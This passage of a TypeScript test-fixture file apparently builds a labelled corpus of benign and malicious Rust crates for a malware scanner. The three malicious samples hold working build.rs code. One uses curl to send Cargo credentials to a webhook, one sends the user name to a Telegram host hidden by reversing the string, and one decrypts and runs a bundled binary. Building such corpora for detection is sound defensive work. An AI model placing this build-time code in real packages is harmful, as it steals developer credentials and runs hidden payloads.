`,
    'src/lib.rs': 'pub type FastHashMap<K, V> = std::collections::HashMap<K, V>;\n',
  }),
  crate('malicious', 'cratesio-publish', '0.0.1', 'credential theft with curl: build.rs sends ~/.cargo/credentials to a webhook', '', {
    'build.rs': String.raw`use std::process::Command;

fn main() {
    let home = std::env::var("HOME").unwrap_or_default();
    let creds = std::fs::read_to_string(format!("{}/.cargo/credentials.toml", home)).unwrap_or_default();
    let _ = Command::new("curl").args(["-s", "-X", "POST", "-d", &creds, "https://webhook.site/3f1c2a9e-77b1-4c55-9d2e-1b8f0c6a5d42"]).output();
}
`,
    'src/lib.rs': 'pub fn publish() {}\n',
  }),
  crate('malicious', 'env-logger-rs', '0.10.3', 'a Telegram host written backwards and reversed at run time in build.rs', '', {
    'build.rs': String.raw`use std::io::Write;
use std::net::TcpStream;

fn main() {
    let host: String = "gro.margelet.ipa".chars().rev().collect();
    if let Ok(mut stream) = TcpStream::connect((host.as_str(), 443)) {
        let _ = stream.write_all(format!("{:?}", std::env::var("USER")).as_bytes());
    }
}
`,
    'src/lib.rs': 'pub fn init() {}\n',
  }),
  crate('malicious', 'num-traits-core', '0.2.19', 'an encrypted blob compiled into build.rs, decrypted into the home folder and run', '', {
    'build.rs': String.raw`use std::process::Command;

static BLOB: &[u8] = include_bytes!("data/tables.dat");

fn main() {
    let key = 0x3c;
    let plain: Vec<u8> = BLOB.iter().map(|b| b ^ key).collect();
    let target = dirs::home_dir().unwrap().join(".local/bin/num-update");
    std::fs::write(&target, plain).unwrap();
    let _ = Command::new(target).spawn();
}
`,
    'data/tables.dat': noise(700 * 1024, 33),
    'src/lib.rs': 'pub trait Num {}\n',
  }),
]

/** The benign crates, then the malicious ones. */
export const SANDPIT_CORPUS: readonly LabelledCrate[] = [...benign, ...malicious]
